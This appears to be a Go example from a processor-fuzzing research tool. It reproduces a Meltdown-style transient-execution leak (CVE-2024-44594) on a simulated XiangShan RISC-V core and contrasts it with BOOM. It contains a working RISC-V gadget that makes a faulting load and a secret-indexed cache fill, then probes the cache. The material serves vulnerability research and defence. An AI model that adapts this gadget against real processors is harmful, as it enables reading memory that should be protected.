// MeltDown-Sampling (B1, CVE-2024-44594): on XiangShan, inconsistent wire
// widths truncate the high bits of an illegal load address on the
// pipeline-to-load-unit path, so the transient data access samples the
// truncated (valid) address while the fault check sees the full one. This
// example runs the same masked-address stimulus on both cores and shows that
// only XiangShan samples the secret.
//
//	go run ./examples/meltdown_sampling
package main

import (
	"fmt"

	"dejavuzz/internal/isa"
	"dejavuzz/internal/swapmem"
	"dejavuzz/internal/uarch"
)

func main() {
	secret := []byte{0x05, 0, 0, 0, 0, 0, 0, 0} // secret byte = 5
	illegal := uint64(1)<<63 | uint64(swapmem.SecretAddr)

	src := fmt.Sprintf(`
		li t0, %#x        # illegal address: high bit set, truncates to the secret
		li t1, %#x        # leak array
		ld s0, 0(t0)      # faults; the data path may sample the truncated address
		andi s1, s0, 0x3f
		slli s1, s1, 6
		add t2, t1, s1
		ld t3, 0(t2)      # secret-indexed fill
		ecall
	`, illegal, uint64(swapmem.DataBase+0x1000))
	pkt := &swapmem.Packet{
		Name: "b1", Kind: swapmem.PacketTransient,
		Image: isa.MustAsm(swapmem.SwapBase, src), Entry: swapmem.SwapBase,
	}
	sched := &swapmem.Schedule{}
	sched.Append(pkt)

	for _, cfg := range []uarch.Config{uarch.XiangShanConfig(), uarch.BOOMConfig()} {
		space := swapmem.NewSpace(secret)
		c := uarch.NewCore(cfg, space, uarch.IFTCellIFT)
		rt := swapmem.NewRuntime(c, space, sched.Clone())
		rt.Start()
		c.Run(8000)

		leakLine := uint64(swapmem.DataBase+0x1000) + uint64(secret[0])*64
		sampled := c.DCache.Probe(leakLine)
		fmt.Printf("%-18s truncation-fired=%-5v secret-indexed line cached=%v\n",
			cfg.Name, c.BugWitness[uarch.WitnessMeltdownSampling] > 0, sampled)
		if sampled {
			fmt.Printf("%-18s => B1 reproduced: attacker samples %#x through the illegal address %#x\n",
				"", uint64(swapmem.SecretAddr), illegal)
		}
	}
}
